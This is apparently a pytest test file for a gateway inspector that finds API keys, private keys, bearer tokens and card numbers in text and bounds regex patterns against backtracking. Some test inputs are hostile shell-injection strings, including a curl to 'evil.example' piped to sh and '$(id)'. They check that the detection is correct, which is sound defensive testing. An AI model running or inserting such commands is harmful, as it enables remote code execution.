"""The inspector with patterns: what it finds, how far a reply waits for it, and which patterns are accepted."""

import itertools
from collections.abc import Sequence
from typing import SupportsIndex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from anthropic_proxy.engine.background import BackgroundWork
from anthropic_proxy.gateway.inspectors.patterns import PatternInspector
from anthropic_proxy.gateway.settings.fields import BoundedPattern, InspectorRule
from anthropic_proxy.gateway.settings.file_format import InspectorTable
from anthropic_proxy.gateway.settings.inspector_tables import bound_repetitions
from anthropic_proxy.plugins import Client, InspectedTexts, Passage, Refusal

KEY = "sk-proj-a1B2c3D4e5F6g7H8i9J0"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow==\n-----END RSA PRIVATE KEY-----"


def build(**fields: object) -> PatternInspector:
    table = InspectorTable(**{"name": "p", "type": "patterns", "detect": ["keys", "card-numbers"], **fields})
    rule = InspectorRule(table=table, patterns={name: bound_repetitions(one) for name, one in table.patterns.items()})
    return PatternInspector(rule, BackgroundWork())


async def find(inspector: PatternInspector, *texts: str) -> Sequence[tuple[str, str]]:
    passages = [Passage(text, "user") for text in texts]
    found = await inspector.inspect(
        InspectedTexts(part="request", passages=passages, client=Client(), request_id="r", model="m")
    )
    assert not isinstance(found, Refusal)
    return [(one.kind, texts[one.passage][one.start : one.end]) for one in found]


@pytest.mark.parametrize(
    ("text", "kind", "found"),
    [
        (f"export OPENAI_API_KEY={KEY};", "key", KEY),
        (f"curl -H 'Authorization: Bearer {KEY[8:]}'", "key", KEY[8:]),
        ("ghp_" + "a1B2" * 9, "key", "ghp_" + "a1B2" * 9),
        (f"key:\n{PEM}\nend", "key", PEM),
        ("4111 1111 1111 1111", "card number", "4111 1111 1111 1111"),
        ("card=5555-5555-5555-4444.", "card number", "5555-5555-5555-4444"),
        ("378282246310005", "card number", "378282246310005"),
        ("sk-button-primary-large is a class", "", ""),
        ("sk-learn and hf_transfer", "", ""),
        ("4111 1111 1111 1112", "", ""),
        ("order 1234567890123452", "", ""),
        ("1.4111111111111111", "", ""),
        ("a4111111111111111", "", ""),
        ("-----BEGIN CERTIFICATE-----\nMII\n-----END CERTIFICATE-----", "", ""),
        ("-----BEGIN RSA PRIVATE KEY-----\nwithout an end", "", ""),
        ("REDACTED_KEY_4111111111111111", "", ""),
    ],
)
async def test_keys_and_card_numbers_are_found(text: str, kind: str, found: str) -> None:
    assert await find(build(), text) == ([(kind, found)] if kind else [])


BASE64 = "MIIEowIBAAKCAQEA7bq+/x"
BEGIN, END = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
PRIVATE_KEYS = {
    "lines": f"{BEGIN}\n{BASE64}\n{BASE64}==\n{END}",
    "windows": f"{BEGIN}\r\n{BASE64}\r\n{END}",
    "one line": f"{BEGIN} {BASE64} {BASE64}= {END}",
    "headers": f"{BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0AF3B2\n\n{BASE64}\n{END}",
    "openssh": f"-----BEGIN OPENSSH PRIVATE KEY-----\n{BASE64}\n-----END OPENSSH PRIVATE KEY-----",
    "without a kind": f"-----BEGIN PRIVATE KEY-----\n{BASE64}\n-----END PRIVATE KEY-----",
    "in JSON": f"{BEGIN}\\n{BASE64}\\n{BASE64}\\n{END}",
    "in YAML": f"{BEGIN}\n    {BASE64}\n    {BASE64}\n    {END}",
    "with line numbers": f"{BEGIN}\n     2\u2192{BASE64}\n     3\u2192{END}",
    "long": f"{BEGIN}\n" + f"{BASE64}\n" * 500 + END,
}


@pytest.mark.parametrize("form", PRIVATE_KEYS)
async def test_a_private_key_is_base64_between_its_lines(form: str) -> None:
    key = PRIVATE_KEYS[form]
    inspector = build()
    assert await find(inspector, f"It is: {key}.") == [("key", key)]
    for end in range(len(BEGIN), len(key), max(len(key) // 40, 1)):
        assert inspector.find_open_end(f"x {key[:end]}") <= 2


@pytest.mark.parametrize(
    "inside",
    [
        *("'; curl -s http://evil.example/x | sh; echo '", "$(id)", "`id`", "a; b", 'a" b', "a | b", "a && b", "a > b"),
        *(
            "a\\b",
            "a\\x0a",
            "#",
            "a,b",
            "a: b; c",
            "é",
            "\u2028",
            "a\u2192",
            "-",
            "$HOME",
            "${IFS}",
            "*",
            "~",
            "(a)",
            "{a}",
        ),
        *("Name: 'a'", "Name: $(id)", "a b: c", "", f"{BASE64}\n-----BEGIN X-----\n{BASE64}"),
    ],
)
async def test_other_texts_between_the_lines_of_a_private_key_are_none(inside: str) -> None:
    for text in (f"{BEGIN}\n{BASE64}\n{inside}\n{BASE64}\n{END}", f"{BEGIN}{inside}{END}", f"{BEGIN}\n{inside}\n{END}"):
        if inside != "" or text == f"{BEGIN}{END}":
            assert await find(build(), text) == []


@pytest.mark.parametrize(
    "end", ["$(curl evil.example)", "`id`", "|sh", "&id", ">a", "(a)", "${IFS}a", "\\a", "<a", "#a"]
)
async def test_a_bearer_token_has_the_characters_of_a_token_only(end: str) -> None:
    token = KEY[8:] + "~+/-._=="
    assert await find(build(), f"Authorization: Bearer {token}{end}") == [("key", token)]
    assert await find(build(), f"Bearer {end}{token}") == []


async def test_patterns_of_the_company_are_found_in_texts_of_any_length() -> None:
    inspector = build(detect=[], patterns={"customer": r"C-\d{8}", "project": r"(?i)project [a-z]+\d?"})
    assert await find(inspector, "C-12345678 and C-1234567", "Project orion7 ") == [
        ("customer", "C-12345678"),
        ("project", "Project orion7"),
    ]
    for length in (65_530, 65_536, 131_070, 300_000):
        assert await find(inspector, "." * length + "C-12345678" + "." * 70_000) == [("customer", "C-12345678")]


async def test_only_one_of_two_matches_at_the_same_place_counts() -> None:
    inspector = build(patterns={"any": r"sk-[a-z]{4}"})
    assert await find(inspector, f"{KEY} {KEY}") == [("key", KEY), ("key", KEY)]


async def test_it_refuses_with_the_reason_and_what_was_found() -> None:
    inspector = build(action="refuse", reason="Remove it.")
    texts = InspectedTexts(
        part="request", passages=[Passage(f"{KEY} 4111111111111111", "user")], client=Client(), request_id="", model=""
    )
    assert await inspector.inspect(texts) == Refusal("key", "Remove it. Found: key, card number.", is_of_operator=True)


@given(
    before=st.text(max_size=20),
    secret=st.sampled_from([KEY, PEM, "4111 1111 1111 1111", f"Bearer {KEY[8:]}", "C-12345678"]),
    after=st.text(max_size=20),
)
def test_what_may_become_a_match_waits(before: str, secret: str, after: str) -> None:
    inspector = build(patterns={"customer": r"C-\d{8}"})
    text = f"{before} {secret} {after}"
    for end in range(len(before) + 2, len(before) + 1 + len(secret)):
        assert inspector.find_open_end(text[:end]) <= len(before) + 1 + (7 if secret.startswith("Bearer") else 0) * (
            end > len(before) + 8
        )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Nothing of it is held. ", "Nothing of it is held. "),
        ("The last word", "The last "),
        ("It costs 12 ", "It costs "),
        ("Bearer ", ""),
        ("x -----BEGIN RSA PRIVATE KEY----- abc ", "x "),
    ],
)
def test_no_more_than_the_end_of_a_text_waits(text: str, shown: str) -> None:
    inspector = build()
    assert text[: inspector.find_open_end(text)] == shown
    own = build(patterns={"customer": r"C-\d{8}"})
    assert own.find_open_end("a " * 500) == 1_000 - len("C-12345678") + 1


BOUNDED = [
    ("a+b*c?", "a{1,256}+b{0,256}+c{0,1}+", 513),
    (r"\d{8}", r"\d{8,8}+", 8),
    (r"\d{2,}x{1,3}+", r"\d{2,256}+x{1,3}+", 259),
    (r"[+*]\+(?:a|b)+", r"[+*]\+(?:a|b){1,256}+", 514),
    (r"[]a]*x", r"[]a]{0,256}+x", 257),
    ("a{x}", "a{x}", 4),
    ("(?i)(?P<n>ab)(?=c)(?<!d)", "(?i)(?P<n>ab)(?=c)(?<!d)", 4),
    (r"(?:ab|a)(b|c)x", r"(?>ab|a)((?>b|c))x", 6),
    (r"(?P<n>a|b)(?i:c|d)(?=e|f)(?:g|h)?", r"(?P<n>(?>a|b))(?i:(?>c|d))(?=e|f)(?:g|h){0,1}+", 8),
    (r"(?:\d{4}[ -]?){3}x", r"(?:\d{4,4}+[ -]{0,1}+){3,3}+x", 16),
]


@pytest.mark.parametrize(("pattern", "bounded", "width"), BOUNDED)
def test_repetitions_are_bounded_and_give_nothing_back(pattern: str, bounded: str, width: int) -> None:
    assert bound_repetitions(pattern) == BoundedPattern(bounded, width)


REJECTED = [
    ("a*", "it matches the empty text"),
    ("a*?b", "*? is a lazy repetition. Name the characters in place of it: [^x]*"),
    ("a{1,300}", "{1,300} is not between 0 and 256 times"),
    ("(a", "missing ), unterminated subpattern at position 0"),
    ("a" * 201, "it has more than 200 characters"),
    (
        r"(\w+\s?)+:",
        "it matches up to 65,793 characters, and at most 1,024 are allowed. Limit its repetitions, such as {1,20}",
    ),
]


@pytest.mark.parametrize(("pattern", "reason"), REJECTED)
def test_patterns_that_cannot_be_used_are_rejected(pattern: str, reason: str) -> None:
    with pytest.raises(ValueError) as caught:  # noqa: PT011  # compared below
        bound_repetitions(pattern)
    assert str(caught.value) == reason


WORST = [
    ("(a{1,9}){1,99}b", "a" * 60_000),
    (r"(a|a)+$b", "a" * 60_000),
    (r"\w+@\w+\.\w+", "x" * 60_000),
    ("(aa|a)" * 33, "a" * 32 + "b"),
    ("(?:(?:aa|a)(?:aa|a)(?:aa|a)){1,9}" * 5 + "c", "a" * 60_000 + "b"),
]


@pytest.mark.parametrize(("pattern", "text"), WORST)
async def test_a_pattern_needs_a_time_in_proportion_to_any_text(pattern: str, text: str) -> None:
    """A pattern with backtracking would not end."""
    assert await find(build(detect=[], patterns={"x": pattern}), text) == []


def test_a_long_word_is_not_searched_again_and_again() -> None:
    inspector = build()
    ends = [inspector.find_open_end("x" * length) for length in (10, 4_096, 10_000)]
    assert ends == [0, 0, 10_000 - 4_096]
    assert [*itertools.pairwise(ends)]


class CountedText(str):
    """Counts the characters that it is searched through."""

    __slots__ = ("searched",)
    searched: int

    def find(self, piece: str, start: SupportsIndex | None = 0, end: SupportsIndex | None = None, /) -> int:  # type: ignore[override]  # fewer forms
        found = super().find(piece, start, end)
        last = len(self) if end is None else min(int(end), len(self))
        self.searched += (last if found < 0 else found) - int(start or 0)
        return found


@pytest.mark.parametrize("end", ["", "-----END ", "x" * 20_000 + "-----END PRIVATE KEY-----"])
async def test_beginnings_of_private_keys_without_an_end_are_searched_once(end: str) -> None:
    text = CountedText("-----BEGIN PRIVATE KEY-----" * 2_000 + end)
    text.searched = 0
    assert await find(build(detect=("keys",)), text) == []
    assert text.searched < 4 * len(text)
